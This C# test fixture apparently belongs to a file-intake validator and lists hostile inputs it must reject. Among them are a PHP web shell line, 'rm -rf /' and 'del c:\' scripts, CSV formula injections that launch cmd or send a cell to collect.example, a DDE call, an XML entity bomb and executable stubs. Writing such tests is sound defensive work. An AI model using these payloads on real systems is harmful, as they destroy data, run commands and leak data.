using System.IO.Compression;
using System.Text;
using Hub.Register.Problems;
using Hub.SampleFiles;

namespace Hub.Rules.Tests.Intake.Files;

/// <summary>Texts, and files of other kinds, that must not be taken.</summary>
internal static class HostileTexts
{
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

    public static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> All()
    {
        yield return ("html", ProblemCode.F10, "<!DOCTYPE html><p>"u8.ToArray());
        yield return ("html behind spaces", ProblemCode.F10, "\n\n   <HTML><script>"u8.ToArray());
        yield return ("html in UTF-16", ProblemCode.F10,
            [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<html><script>x</script>")]);
        yield return ("xml with an entity bomb", ProblemCode.F15, Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?>{HostileFiles.Bomb}"));
        yield return ("rtf", ProblemCode.F10, @"{\rtf1\ansi {\object\objocx}}"u8.ToArray());
        yield return ("php", ProblemCode.F12, "<?php system($_GET['c']);"u8.ToArray());
        yield return ("shell script", ProblemCode.F12, "#!/bin/sh\nrm -rf /\n"u8.ToArray());
        yield return ("batch", ProblemCode.F12, "@echo off\r\ndel c:\\\r\n"u8.ToArray());
        yield return ("shortcut to the web", ProblemCode.F12, "[InternetShortcut]\r\nURL=file://evil.example/x\r\n"u8.ToArray());
        yield return ("csv that starts a program", ProblemCode.F11, "a,b\n=cmd|'/c calc'!A0,2\n"u8.ToArray());
        yield return ("csv that starts a program, quoted", ProblemCode.F11, "a;b\n\"+cmd|'/c calc'!A0\";2\n"u8.ToArray());
        yield return (
            "csv that starts a program at the end of a piece",
            ProblemCode.F11,
            Encoding.ASCII.GetBytes($"a,b\n{new string('x', (64 * 1024) - 8)}\n=cmd|'/c calc'!A0\n"));
        foreach (
            var formula in new[]
            {
                "=WEBSERVICE(\"https://collect.example/\"&B1)",
                "+HYPERLINK(\"https://x.example\",\"a\")",
                "=DDE(\"cmd\";\"/c\")",
            })
            yield return ($"csv with {formula[1..5]}", ProblemCode.F11, Encoding.ASCII.GetBytes($"Name,Phone\r\nA,{formula}\r\n"));
        yield return ("json cut off", ProblemCode.F18, "{\"state\":\"XAA\",\"telepho"u8.ToArray());
        yield return ("json with two values for one name", ProblemCode.F16, "{\"a\":1,\"b\":{\"a\":1},\"a\":2}"u8.ToArray());
        yield return ("json too deep", ProblemCode.F15,
            Encoding.ASCII.GetBytes($"{string.Concat(Enumerable.Repeat("{\"a\":", 70))}1{new string('}', 70)}"));
        yield return ("text with a zip behind", ProblemCode.F10, [.. "A note.\n"u8, .. new Package().Part("a", "x").Bytes()]);
        yield return ("bytes", ProblemCode.F10, [.. Enumerable.Range(0, 5000).Select(i => (byte)(i * 31 % 251))]);
        yield return ("nothing", ProblemCode.F18, []);
    }

    public static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Others()
    {
        yield return ("exe", ProblemCode.F12, [.. "MZ"u8, .. new byte[100]]);
        yield return ("elf", ProblemCode.F12, [0x7F, .. "ELF"u8, .. new byte[60]]);
        yield return ("java class", ProblemCode.F12, [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]);
        yield return ("windows shortcut", ProblemCode.F12, [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0]);
        yield return ("old word", ProblemCode.F10, [.. Ole, .. Encoding.Unicode.GetBytes("WordDocument")]);
        yield return ("old excel with macros", ProblemCode.F11,
            [.. Ole, .. new byte[70_000], .. Encoding.Unicode.GetBytes("_VBA_PROJECT")]);
        yield return ("docx with a password", ProblemCode.F13,
            [.. Ole, .. new byte[65_530], .. Encoding.Unicode.GetBytes("EncryptedPackage")]);
        yield return ("rar", ProblemCode.F14, [.. "Rar!"u8, 0x1A, 7, 0]);
        yield return ("7z", ProblemCode.F14, [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0]);
        yield return ("gzip", ProblemCode.F14, Gzip(new byte[100]));
        yield return ("tar", ProblemCode.F14, [.. new byte[257], .. "ustar"u8, .. new byte[250]]);
        yield return ("disc", ProblemCode.F14, [.. new byte[0x8001], .. "CD001"u8]);
        yield return ("cab", ProblemCode.F14, [.. "MSCF"u8, .. new byte[40]]);
    }

    private static byte[] Gzip(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest))
            gzip.Write(content);
        return packed.ToArray();
    }
}
